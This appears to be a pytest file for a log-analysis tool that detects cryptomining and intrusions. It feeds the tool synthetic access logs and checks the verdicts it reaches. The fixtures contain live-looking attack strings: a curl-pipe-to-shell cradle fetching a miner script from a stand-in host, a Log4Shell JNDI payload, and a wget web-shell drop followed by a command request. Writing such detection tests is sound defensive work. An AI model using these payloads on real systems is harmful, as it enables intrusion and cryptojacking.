"""Different stories, visibly different verdicts: stray miner, break-in attempt, success, compromise, permission."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from kanaria.mining.keccak import keccak256
from tests.app.running import Kanaria
from tests.encoding import cryptonote_encode

START = datetime(2026, 6, 21, 7, 0, tzinfo=UTC)
_BODY = bytes([18]) + bytes(range(64))
WALLET = cryptonote_encode(_BODY + keccak256(_BODY)[:4])
CRADLE = "/cgi-bin/status?x=$(curl%20-s%20http://198.51.100.66/xmrig.sh%20|%20sh)"


def line(seconds: float, client: str, request: str, status: int, size: int, agent: str = "-") -> str:
    when = (START + timedelta(seconds=seconds)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{client} - - [{when}] "{request}" {status} {size} "-" "{agent}"\n'


def login(wallet: str) -> str:
    message = {
        "id": 1,
        "jsonrpc": "2.0",
        "method": "login",
        "params": {"login": wallet, "pass": "rig7", "agent": "XMRig/6.22.2 (Linux x86_64)", "algo": ["rx/0"]},
    }
    return json.dumps(message).replace('"', "\\x22")


def ordinary(count: int = 60) -> str:
    return "".join(
        line(30 * n, f"198.51.100.{n % 9 + 1}", "GET / HTTP/1.1", 200, 5123, "Mozilla/5.0") for n in range(count)
    )


def test_a_miner_that_lost_its_way(tmp_path: Path, kanaria: Kanaria) -> None:
    log = tmp_path / "access.log"
    log.write_text(
        ordinary() + "".join(line(61 * n + n % 7, "203.0.113.40", login(WALLET), 400, 157) for n in range(40))
    )
    incident = kanaria("analyze", str(log), "--format", "json").incident
    assert incident["hypotheses"][0]["name"] == "misdirected_miner"
    assert incident["outcome"]["value"] == "failed"
    assert incident["severity"] in {"informational", "low"}
    assert incident["entities"]["remotes"] == ["203.0.113.40"]


def test_an_attempt_to_break_in_with_a_download(tmp_path: Path, kanaria: Kanaria) -> None:
    log = tmp_path / "access.log"
    log.write_text(ordinary() + line(1900, "203.0.113.41", f"GET {CRADLE} HTTP/1.1", 404, 153))
    incident = kanaria("analyze", str(log), "--format", "json").incident
    assert incident["hypotheses"][0]["name"] == "exploitation_attempt"
    assert incident["outcome"]["value"] in {"failed", "no_sign_of_success"}
    assert any("198.51.100.66" in i["value"] for i in incident["indicators"] if i["type"] == "url")


def test_status_200_alone_is_not_success(tmp_path: Path, kanaria: Kanaria) -> None:
    log = tmp_path / "access.log"
    request = "GET /?x=${jndi:ldap://198.51.100.66:1389/a} HTTP/1.1"
    log.write_text(ordinary() + line(1900, "203.0.113.41", request, 200, 5123))
    incident = kanaria("analyze", str(log), "--format", "json").incident
    assert incident["hypotheses"][0]["name"] == "exploitation_attempt"
    assert incident["outcome"]["value"] in {"failed", "no_sign_of_success"}
    assert "CVE-2021-44228" in {v["cve"] for v in incident["vulnerabilities"] if v["relation"] == "matched"}


def test_what_the_exploit_left_is_used_later(tmp_path: Path, kanaria: Kanaria) -> None:
    log = tmp_path / "access.log"
    drop = "GET /index.php?cmd=wget%20http://198.51.100.66/sh3ll.txt%20-O%20/var/www/html/sh3ll.php HTTP/1.1"
    log.write_text(
        ordinary()
        + line(1900, "203.0.113.41", drop, 200, 5123)
        + line(1960, "203.0.113.41", "GET /sh3ll.php?cmd=id HTTP/1.1", 200, 54)
    )
    incident = max(
        kanaria("analyze", str(log), "--format", "json").document["incidents"], key=lambda i: i["outcome"]["bits"]
    )
    assert incident["outcome"]["value"] in {"possible", "confirmed"}
    assert incident["severity"] in {"high", "critical"}


def test_a_probe_that_was_answered_and_a_server_that_mines_afterwards(tmp_path: Path, kanaria: Kanaria) -> None:
    web = {"msec": "1782025200.000", "remote_addr": "203.0.113.42", "server_addr": "192.0.2.10", "request": login(WALLET).replace("\\x22", '"'),
           "status": "200", "body_bytes_sent": "320", "resp_body": '{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"7","job":{"blob":"0e0e","job_id":"q1","target":"b88d0600"},"status":"OK"}}'}  # fmt: skip
    (tmp_path / "access.json").write_text(json.dumps(web) + "\n")
    message = '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}'
    flow = {"timestamp": "2026-06-21T08:00:00.000000+0000", "flow_id": 1, "event_type": "alert", "src_ip": "192.0.2.10",
            "src_port": 40000, "dest_ip": "198.51.100.99", "dest_port": 4444, "proto": "TCP", "alert": {"signature": "x", "signature_id": 1, "category": "y", "severity": 1},
            "payload_printable": message}  # fmt: skip
    (tmp_path / "eve.json").write_text(json.dumps(flow) + "\n")
    document = kanaria(
        "analyze",
        str(tmp_path / "access.json"),
        str(tmp_path / "eve.json"),
        "--home",
        "192.0.2.0/24",
        "--format",
        "json",
    ).document
    worst = document["incidents"][0]
    assert worst["hypotheses"][0]["name"] == "compromised_device"
    assert worst["outcome"]["value"] == "confirmed"
    assert worst["severity"] == "critical"
    assert "192.0.2.10" in worst["entities"]["devices"]


def test_mining_the_owner_allows(tmp_path: Path, kanaria: Kanaria) -> None:
    (tmp_path / "kanaria.yaml").write_text(f"allowed:\n  wallets: ['{WALLET}']\n")
    (tmp_path / "access.log").write_text(line(0, "203.0.113.40", login(WALLET), 400, 157))
    done = kanaria("analyze", "access.log", "--config", "kanaria.yaml", "--format", "json")
    incident = done.incident
    assert incident["hypotheses"][0]["name"] == "authorised_mining"
    assert incident["severity"] == "informational"


def test_an_ordinary_log_has_nothing(tmp_path: Path, kanaria: Kanaria) -> None:
    (tmp_path / "access.log").write_text(ordinary(500))
    done = kanaria("analyze", "access.log")
    assert done.status == 0
    assert "Nothing of mining was found in 500 records" in done.out
